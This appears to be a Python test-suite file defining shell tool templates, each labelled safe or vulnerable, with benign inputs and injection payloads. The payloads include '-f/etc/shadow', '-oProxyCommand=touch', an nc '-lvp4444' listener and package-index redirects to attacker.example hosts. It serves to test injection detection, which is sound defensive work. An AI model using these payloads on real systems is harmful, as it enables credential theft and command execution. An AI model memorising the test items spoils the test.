NET = "echo '<h1>ok</h1>' > index.html && echo TOPSECRET > {T}/secret.txt && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout key.pem -out cert.pem -subj /CN=demo -days 30 2>/dev/null && ssh-keygen -q -t ed25519 -N '' -f id_demo >/dev/null"
T(M, "url_check_format", "option", ["curl -s -o /dev/null -w @{format} \"file://$(pwd)/index.html\""], ["format"],
  desc="Fetch the status page and print curl write-out variables (e.g. '%{size_download}').", benign={"format": "%{size_download}"}, expect="12", setup=NET, prog="curl",
  payload={"format": "@{T}/secret.txt"}, check=out_has("TOPSECRET"), idiom="-w @file reads the format from a file",
  why="curl -w @<file> prints an unintended file's content")
T(M, "fetch_via_config", "write", ["printf 'url = \"%s\"\\n' @{url} | curl -fsS -K -"], ["url"],
  desc="Fetch a URL (curl reads its config from stdin).", benign={"url": "file://{W}/index.html"}, expect="ok", setup=NET, prog="curl",
  payload={"url": "file://{W}/index.html\"\noutput = \"{P}"}, check=pwn, idiom="newline injects a curl config directive (output = ...)",
  why="the injected 'output' line makes curl write the file named in the value")
T(M, "fetch_status_page", "safe", ["curl -fsS --max-time 5 \"file://$(pwd)/status/@{page}.html\" || echo 'no such page'"], ["page"],
  desc="Fetch a local status page by name.", benign={"page": "index"}, expect="ok", setup=NET + " && mkdir status && cp index.html status/", prog="curl",
  idiom="value inside a fixed file:// URL")
T(M, "cert_summary", "safe", ["openssl x509 -in @{cert} -noout -subject -enddate"], ["cert"],
  desc="Show subject and expiry of a PEM certificate.", benign={"cert": "cert.pem"}, expect="CN = demo", setup=NET, prog="openssl",
  idiom="value of -in")
T(M, "make_self_signed", "safe", ["[[ @{cn} =~ ^[A-Za-z0-9][A-Za-z0-9.-]*$ ]] || { echo 'invalid common name'; exit 1; }; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout site.key -out site.crt -days 7 -subj \"/CN=@{cn}\" 2>/dev/null && openssl x509 -in site.crt -noout -subject"], ["cn"],
  desc="Create a self-signed certificate for a common name.", benign={"cn": "shop.local"}, expect="shop.local", setup=NET, prog="openssl",
  idiom="hostname regex guard, value inside -subj")
T(M, "key_fingerprint", "safe", ["ssh-keygen -l -f @{keyfile}"], ["keyfile"],
  desc="Show the fingerprint of an SSH public key.", benign={"keyfile": "id_demo.pub"}, expect="SHA256:", setup=NET, prog="ssh-keygen",
  idiom="value of -f")
T(M, "remote_disk_free", "exec", ["ssh -o BatchMode=yes ops@backup01 df -h @{mount}"], ["mount"],
  desc="Disk usage of a mount point on the backup host.", benign={"mount": "/"}, expect="Filesystem", prog="ssh",
  payload={"mount": "/; touch {C}"}, idiom="ssh joins remote words into a remote shell command")
T(M, "remote_disk_free_q", "safe", ["ssh -o BatchMode=yes ops@backup01 df -h -- $(printf '%q' @{mount})"], ["mount"],
  desc="Disk usage of a mount point on the backup host (shell-escaped).", benign={"mount": "/"}, expect="Filesystem", prog="ssh",
  idiom="printf %q before ssh", split_ok=True,
  why="ssh re-joins the words; the remote shell sees the %q-escaped value as one word")
T(M, "push_to_inbox", "safe", ["scp -q -o BatchMode=yes -- @{file} backup01:/incoming/"], ["file"],
  desc="Copy a local file to the backup inbox.", benign={"file": "index.html"}, expect="scp-stub", setup=NET, prog="scp", idiom="scp operand after --")
T(M, "port_open", "option", ["[[ @{host} =~ ^[A-Za-z0-9.-]+$ && @{port} =~ ^[0-9]+$ ]] || { echo 'bad host/port'; exit 1; }; nc -z -w 2 @{host} @{port} && echo open"], ["host", "port"],
  desc="Check whether a TCP port is open.", benign={"host": "db.internal", "port": "5432"}, expect="open", prog="nc",
  payload={"host": "-lvp4444", "port": "80"}, check=has_arg("nc", "-lvp4444"), idiom="host regex allows a leading '-'",
  why="the guard admits -lvp4444: nc starts listening on port 4444")
T(M, "txt_records", "option", ["dig +short TXT @{domain}"], ["domain"],
  desc="Show the TXT records of a domain.", benign={"domain": "example.internal"}, expect="dig-stub", prog="dig",
  payload={"domain": "-f/etc/shadow"}, check=has_arg("dig", "-f/etc/shadow"), idiom="domain as -f (batch file)", why="dig reads queries from the named file")
T(M, "verify_release", "option", ["gpg --batch --verify @{signature} release.tar.gz"], ["signature"],
  desc="Verify the detached signature of release.tar.gz.", benign={"signature": "release.tar.gz.asc"}, expect="gpg-stub", prog="gpg",
  payload={"signature": "--homedir=/tmp/attacker-keyring"}, check=has_arg("gpg", "--homedir=/tmp/attacker-keyring"),
  idiom="signature path as --homedir", why="gpg verifies against another keyring")
T(M, "encrypt_for", "safe", ["gpg --batch --yes -r @{recipient} -o report.gpg -e report.txt"], ["recipient"],
  desc="Encrypt report.txt for a recipient.", benign={"recipient": "ops@example.com"}, expect="gpg-stub", prog="gpg", idiom="value of -r")
T(M, "scan_https", "option", ["nmap -Pn -sT -p 443 @{host}"], ["host"],
  desc="Check whether a host serves HTTPS.", benign={"host": "10.0.0.5"}, expect="nmap-stub", prog="nmap",
  payload={"host": "-oN/tmp/blindE_scan.txt"}, check=has_arg("nmap", "-oN/tmp/blindE_scan.txt"), idiom="host as -oN (write report file)",
  why="nmap receives -oN and writes a report file")
T(M, "whois_lookup", "safe", ["whois -H -- @{domain}"], ["domain"],
  desc="WHOIS record of a domain.", benign={"domain": "example.com"}, expect="whois-stub", prog="whois", idiom="operand after --")

# =============================== pkg_tools =======================================
M = "pkg_tools"
T(M, "npm_latest_version", "option", ["npm view @{package} version"], ["package"],
  desc="Latest published version of an npm package.", benign={"package": "left-pad"}, expect="npm-stub", prog="npm",
  payload={"package": "--registry=http://registry.attacker.example/"}, check=has_arg("npm", "--registry=http://registry.attacker.example/"),
  idiom="package name as --registry", why="npm queries (and would later install from) another registry")
T(M, "npm_latest_version_safe", "safe", ["npm view -- @{package} version"], ["package"],
  desc="Latest published version of an npm package (name after --).", benign={"package": "left-pad"}, expect="npm-stub", prog="npm", idiom="npm -- name")
T(M, "npm_add_exact", "safe", ["npm install --ignore-scripts --save-exact -- @{package}@@{version}"], ["package", "version"],
  desc="Add an exact package version without running install scripts.", benign={"package": "left-pad", "version": "1.3.0"}, expect="npm-stub", prog="npm",
  idiom="name@version after --")
T(M, "pip_fetch_wheel", "split", ["pip download --no-deps -d wheels $(printf '%s' @{package})"], ["package"],
  desc="Download the wheel of one package into wheels/.", benign={"package": "requests==2.32.3"}, expect="pip-stub", prog="pip",
  payload={"package": SPLIT}, check=split_seen("pip"), idiom="unquoted $(printf) splits", why="pip receives two requirement arguments")
T(M, "pip_user_install", "option", ["pip install --user @{package}"], ["package"],
  desc="Install a Python package for the current user.", benign={"package": "rich"}, expect="pip-stub", prog="pip",
  payload={"package": "--index-url=http://pypi.attacker.example/simple"}, check=has_arg("pip", "--index-url=http://pypi.attacker.example/simple"),
  idiom="package name as --index-url", why="pip installs from another index")
T(M, "pip_show_pkg", "safe", ["pip show -- @{package}"], ["package"],
  desc="Show metadata of an installed Python package.", benign={"package": "rich"}, expect="pip-stub", prog="pip", idiom="operand after --")
T(M, "gem_install_version", "option", ["gem install @{gem} -v @{version} --no-document"], ["gem", "version"],
  desc="Install a specific version of a Ruby gem.", benign={"gem": "rake", "version": "13.2.1"}, expect="gem-stub", prog="gem",
  payload={"gem": "--source=http://gems.attacker.example", "version": "1.0"}, check=has_arg("gem", "--source=http://gems.attacker.example"),
  idiom="gem name as --source", why="gem installs from another source")
T(M, "cargo_search_crates", "safe", ["cargo search --limit 5 -- @{query}"], ["query"],
  desc="Search crates.io.", benign={"query": "serde"}, expect="cargo-stub", prog="cargo", idiom="query after --")
T(M, "composer_require_pkg", "option", ["composer require --no-interaction @{package}"], ["package"],
  desc="Add a PHP dependency to the project.", benign={"package": "monolog/monolog"}, expect="composer-stub", prog="composer",
  payload={"package": "--working-dir=/srv/other-app"}, check=has_arg("composer", "--working-dir=/srv/other-app"),
  idiom="package as --working-dir", why="composer modifies another project")
T(M, "apt_policy", "safe", ["apt-cache policy -- @{package}"], ["package"],
  desc="Show candidate and installed versions of a Debian package.", benign={"package": "curl"}, expect="apt-cache-stub", prog="apt-cache", idiom="operand after --")
T(M, "apt_install_pkg", "option", ["sudo -n apt-get install -y --no-install-recommends @{package}"], ["package"],
  desc="Install a Debian package.", benign={"package": "jq"}, expect="apt-get-stub", prog="apt-get",
  payload={"package": "--allow-unauthenticated"}, check=has_arg("apt-get", "--allow-unauthenticated"),
  idiom="package name as apt-get option (through sudo)", why="apt-get installs unauthenticated packages")
T(M, "brew_info_formula", "safe", ["brew info --json=v2 -- @{formula}"], ["formula"],
  desc="Show Homebrew formula info as JSON.", benign={"formula": "wget"}, expect="brew-stub", prog="brew", idiom="operand after --")
T(M, "poetry_add_dep", "safe", ["poetry add --lock -- @{package}"], ["package"],
  desc="Add a dependency to pyproject.toml (lock only).", benign={"package": "httpx"}, expect="poetry-stub", prog="poetry", idiom="operand after --")
T(M, "yarn_why_pkg", "option", ["yarn why @{package}"], ["package"],
  desc="Explain why a package is installed.", benign={"package": "lodash"}, expect="yarn-stub", prog="yarn",
  payload={"package": "--cwd=/srv/other-app"}, check=has_arg("yarn", "--cwd=/srv/other-app"), idiom="package as --cwd", why="yarn runs in another project")
T(M, "make_venv", "write", ["python3 -m venv --without-pip envs/@{name} && ls envs"], ["name"],
  desc="Create a Python virtual environment under envs/.", benign={"name": "tools"}, expect="tools", prog="python3",
  payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="venv path with ../", why="venv created outside envs/", timeout=60)
T(M, "conda_env_export", "write", ["mkdir -p envs && conda env export -n @{env} > envs/@{env}.yml && ls envs"], ["env"],
  desc="Export a conda environment to envs/<env>.yml.", benign={"env": "science"}, expect="science.yml", prog="conda",
  payload={"env": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="redirect envs/<value>.yml", why="redirect writes outside envs/")
T(M, "dotnet_add_package", "safe", ["[[ @{package} =~ ^[A-Za-z][A-Za-z0-9.]*$ ]] || { echo 'invalid package id'; exit 1; }; dotnet add app.csproj package @{package}"], ["package"],
  desc="Add a NuGet package to app.csproj.", benign={"package": "Serilog"}, expect="dotnet-stub", prog="dotnet", idiom="regex guard anchored on a letter")
T(M, "gradle_task", "option", ["gradle --offline -q @{task}"], ["task"],
  desc="Run a Gradle task offline.", benign={"task": "test"}, expect="gradle-stub", prog="gradle",
  payload={"task": "--project-dir=/srv/other"}, check=has_arg("gradle", "--project-dir=/srv/other"), idiom="task as --project-dir", why="gradle builds another project")

# =============================== media_tools =====================================
M = "media_tools"
T(M, "clip_video", "safe", ["ffmpeg -nostdin -hide_banner -y -ss @{start} -t @{duration} -i input.mov -c copy clip.mp4"], ["start", "duration"],
  desc="Cut a clip from input.mov.", benign={"start": "00:00:05", "duration": "10"}, expect="ffmpeg-stub", prog="ffmpeg", idiom="values of -ss and -t")
T(M, "extract_audio", "option", ["ffmpeg -nostdin -hide_banner -i input.mov -vn @{output}"], ["output"],
  desc="Extract the audio track into a file (e.g. audio.m4a).", benign={"output": "audio.m4a"}, expect="ffmpeg-stub", prog="ffmpeg",
  payload={"output": "-y"}, check=has_arg("ffmpeg", "-y"), idiom="output name as -y", why="ffmpeg receives -y (overwrite without asking)")
T(M, "strip_metadata", "option", ["exiftool -all= @{image}"], ["image"],
  desc="Remove all metadata from an image.", benign={"image": "photo.jpg"}, expect="exiftool-stub", prog="exiftool",
  payload={"image": "-delete_original!"}, check=has_arg("exiftool", "-delete_original!"), idiom="image as -delete_original!", why="exiftool deletes the _original backups")
T(M, "image_metadata", "safe", ["exiftool -json -- @{image}"], ["image"],
  desc="Show the metadata of an image as JSON.", benign={"image": "photo.jpg"}, expect="exiftool-stub", prog="exiftool", idiom="operand after --")
T(M, "md_to_html", "option", ["pandoc @{input} -s -o out.html"], ["input"],
  desc="Convert a Markdown file to standalone HTML.", benign={"input": "README.md"}, expect="pandoc-stub", prog="pandoc",
  payload={"input": "--include-in-header=/etc/shadow"}, check=has_arg("pandoc", "--include-in-header=/etc/shadow"),
  idiom="input file as --include-in-header", why="pandoc embeds an unintended file")
T(M, "md_to_html_safe", "safe", ["pandoc -f markdown -t html -s -o out.html -- @{input}"], ["input"],
  desc="Convert a Markdown file to standalone HTML (input after --).", benign={"input": "README.md"}, expect="pandoc-stub", prog="pandoc", idiom="operand after --")
T(M, "pdf_to_png", "option", ["mkdir -p pages && gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=png16m -r96 -sOutputFile=pages/p%03d.png @{pdf}"], ["pdf"],
  desc="Render each page of a PDF to PNG.", benign={"pdf": "doc.pdf"}, expect="gs-stub", prog="gs",
  payload={"pdf": "-dNOSAFER"}, check=has_arg("gs", "-dNOSAFER"), idiom="pdf path as -dNOSAFER", why="ghostscript sandbox disabled")
T(M, "pdf_decrypt", "safe", ["qpdf --password=@{password} --decrypt locked.pdf unlocked.pdf"], ["password"],
  desc="Decrypt a password-protected PDF.", benign={"password": "s3cret"}, expect="qpdf-stub", prog="qpdf", idiom="--password=value one word")
T(M, "audio_trim", "safe", ["[[ @{start} =~ ^[0-9]+(\\.[0-9]+)?$ && @{length} =~ ^[0-9]+(\\.[0-9]+)?$ ]] || { echo 'numbers only'; exit 1; }; sox input.wav clip.wav trim @{start} @{length}"], ["start", "length"],
  desc="Trim an audio file (start and length in seconds).", benign={"start": "1.5", "length": "3"}, expect="sox-stub", prog="sox", idiom="numeric regex guard")
T(M, "download_video", "option", ["yt-dlp -f 'bv*+ba/b' -o 'videos/%(title)s.%(ext)s' @{url}"], ["url"],
  desc="Download a video into videos/.", benign={"url": "https://media.local/v/123"}, expect="yt-dlp-stub", prog="yt-dlp",
  payload={"url": "--paths=/etc/cron.d"}, check=has_arg("yt-dlp", "--paths=/etc/cron.d"), idiom="URL as --paths", why="yt-dlp writes into another directory")
T(M, "thumbnail", "safe", ["case @{size} in 64|128|256) ;; *) echo 'size must be 64, 128 or 256'; exit 1;; esac; convert uploads/@{name} -thumbnail @{size}x@{size} thumbs/out.png"], ["name", "size"],
  desc="Make a square thumbnail of an uploaded image.", benign={"name": "a.png", "size": "128"}, expect="convert-stub", prog="convert",
  idiom="case allow-list and uploads/ prefix")
T(M, "pdf_merge", "split", ["pdftk $(echo @{first}) @{second} cat output merged.pdf"], ["first", "second"],
  desc="Merge two PDFs.", benign={"first": "a.pdf", "second": "b.pdf"}, expect="pdftk-stub", prog="pdftk",
  payload={"first": SPLIT, "second": "b.pdf"}, check=split_seen("pdftk"), idiom="$(echo value) unquoted", why="pdftk receives three inputs")

# ---- more tools (appended) ----
M = "net_tools"
T(M, "host_uptime", "exec", ["ssh -o BatchMode=yes -o ConnectTimeout=5 @{host} uptime"], ["host"],
  desc="Show the uptime of a fleet host.", benign={"host": "web01.internal"}, expect="", prog="ssh",
  payload={"host": "-oProxyCommand=touch {C}"}, idiom="host as -oProxyCommand (ssh runs it locally)")
M = "archive_tools"
T(M, "tar_compress_with", "exec", ["tar -I @{compressor} -cf snapshot.tar.x -C src . && ls -1 snapshot.tar.x"], ["compressor"],
  desc="Archive src/ with a chosen compressor program (gzip, xz, zstd).", benign={"compressor": "gzip"}, expect="snapshot.tar.x", setup=ARC, prog="tar",
  payload={"compressor": "sh -c 'touch {C}; cat'"}, idiom="-I names the compression program (tar splits and runs it)")
M = "text_tools"
T(M, "tail_log_file", "broken", ["tail -n 20 logs/UTCP_ARG_log-file_UTCP_END"], {"log-file": "string"},
  desc="Show the last 20 lines of a log under logs/.", benign={"log-file": "app.log"}, expect="boot", setup="mkdir logs && echo boot > logs/app.log", prog="tail",
  idiom="placeholder name with a hyphen", why="the runtime only substitutes [A-Za-z0-9_] names: tail reads a file literally named UTCP_ARG_log-file_UTCP_END")
M = "sys_tools"
T(M, "app_config_value", "broken", ["python3 -c 'import json, sys; print(json.load(open(\"config.json\"))[sys.argv[1]])' @{key}"], ["key"],
  desc="Read a key of /srv/app/config.json.", benign={"key": "port"}, expect="8080", prog="python3", wd="/srv/app",
  idiom="working_dir that does not exist", why="working_dir /srv/app does not exist here: every call raises before the script starts")
T(M, "pretty_config", "broken", ["jq -S . config.json"], [], desc="unused", benign={}, expect="x")
TOOLS.pop()
T(M, "json_pretty", "broken", ["python3 -m json.tool --sort-keys @{file}"], ["file"],
  desc="Pretty-print a JSON file with sorted keys.", benign={"file": "cfg.json"}, expect="\"a\": 1", setup="echo '{\"b\":2,\"a\":1}' > cfg.json", prog="python3",
  env={"PATH": "/opt/acme/bin"}, idiom="env_vars replaces PATH", why="PATH=/opt/acme/bin: python3 is not found on any call")
T(M, "disk_report", "broken", [("df -h @{mount}", False), ("du -sh @{mount} 2>/dev/null", False)], ["mount"],
  desc="Disk free and usage of a mount point.", benign={"mount": "{W}"}, expect="Filesystem", prog="df",
  idiom="append_to_final_output false on every step", why="the tool returns an empty result for every input")

# ---- safe look-alikes (appended) ----
T("repo_tools", "git_resolve_rev", "safe", ["git -C repo rev-parse --verify --quiet --end-of-options @{rev}^{commit}"], ["rev"],
  desc="Resolve a revision to a commit SHA.", benign={"rev": "v1.0"}, expect="", setup=GIT, prog="git",
  idiom="--end-of-options before the revision")
T("archive_tools", "tar_list_archive", "safe", ["tar -tvf @{archive}"], ["archive"],
  desc="List the members of a tar archive.", benign={"archive": "bundle.tar"}, expect="a.txt", setup=ARC, prog="tar",
  idiom="value is the argument of -f")
T("archive_tools", "zip_package_dashdash", "broken", ["zip -q -T -r -- @{archive} src README.md && echo packaged"], ["archive"],
  desc="Package src/ and README.md into a zip archive and verify it (archive after --).", benign={"archive": "release.zip"}, expect="packaged", setup=ARC, prog="zip",
  idiom="zip -- archive", why="zip rejects -- before the archive name ('can't use -- before archive name'): fails for every input")
T("text_tools", "sort_unique_safe", "safe", ["sort -u -- @{file}"], ["file"],
  desc="Print the unique lines of a file, sorted (file after --).", benign={"file": "notes.txt"}, expect="alpha", setup=CSV, prog="sort",
  idiom="sort -- file")
T("text_tools", "print_section_headers", "safe", ["sed -n -e '/^## /p' -- @{file}"], ["file"],
  desc="Print the second-level headers of a Markdown file.", benign={"file": "doc.md"}, expect="## b",
  setup="printf '# T\\n## a\\ntext\\n## b\\n' > doc.md", prog="sed", idiom="fixed sed script, file after --")
T("text_tools", "json_keys", "safe", ["jq -r 'keys[]' -- @{file}"], ["file"],
  desc="List the top-level keys of a JSON file.", benign={"file": "cfg.json"}, expect="port",
  setup="echo '{\"port\":1,\"host\":2}' > cfg.json", prog="jq", idiom="fixed jq program, file after --")
T("lang_tools", "perl_reverse_text", "safe", ["perl -le 'print scalar reverse shift' -- @{text}"], ["text"],
  desc="Reverse a text (Perl).", benign={"text": "stressed"}, expect="desserts", prog="perl", idiom="perl reads the value from @ARGV")
T("lang_tools", "node_upper_env", "safe", ["TEXT=@{text} node -e 'console.log(process.env.TEXT.toUpperCase())'"], ["text"],
  desc="Upper-case a text (Node).", benign={"text": "hello"}, expect="HELLO", prog="node", idiom="value passed in an environment variable")
T("sys_tools", "install_conf_checked", "safe", ["case @{name} in *[!a-z0-9_-]*|-*|'') echo 'invalid name'; exit 1 ;; esac; install -D -m 0644 template.conf conf.d/@{name}.conf && ls conf.d"], ["name"],
  desc="Install the template as conf.d/<name>.conf (validated name).", benign={"name": "web"}, expect="web.conf", setup=SYS, prog="install",
  idiom="case guard on the character set")
T("sys_tools", "find_under_dir", "safe", ["find ./@{dir} -maxdepth 1 -type f -print"], ["dir"],
  desc="List the files directly inside a folder.", benign={"dir": "data"}, expect="keep.txt", setup=SYS, prog="find",
  idiom="./ prefix keeps the start dir from being an expression")
T("shell_tools", "hours_to_minutes_checked", "safe", ["[[ @{hours} =~ ^[0-9]{1,4}$ ]] && echo $(( @{hours} * 60 )) || echo 'hours must be a number'"], ["hours"],
  desc="Convert hours to minutes (validated).", benign={"hours": "3"}, expect="180", prog="bash", idiom="regex guard in the same step before $(( ))")
T("shell_tools", "setting_known", "safe", ["declare -A defaults=([timeout]=30 [retries]=3); [[ -v defaults[@{key}] ]] && echo known || echo unknown"], ["key"],
  desc="Tell whether a key has a default setting.", benign={"key": "timeout"}, expect="known", prog="bash", idiom="[[ -v assoc[key] ]] on an associative array")
T("shell_tools", "zero_pad", "safe", ["printf '%05d\\n' @{number}"], ["number"],
  desc="Zero-pad a number to five digits.", benign={"number": "42"}, expect="00042", prog="printf", idiom="printf %d conversion of the value")
T("cloud_tools", "docker_run_checked", "safe", ["[[ @{image} =~ ^[a-z0-9][a-z0-9._/:-]*$ ]] || { echo 'invalid image'; exit 1; }; docker run --rm @{image} --version"], ["image"],
  desc="Print the version of a tool image (validated reference).", benign={"image": "alpine:3.20"}, expect="docker-stub", prog="docker",
  idiom="image regex anchored on [a-z0-9]")
T("cloud_tools", "tf_select_workspace", "safe", ["terraform -chdir=infra workspace select -or-create=true -- @{workspace}"], ["workspace"],
  desc="Select (or create) a Terraform workspace.", benign={"workspace": "staging"}, expect="terraform-stub", prog="terraform", idiom="operand after --")
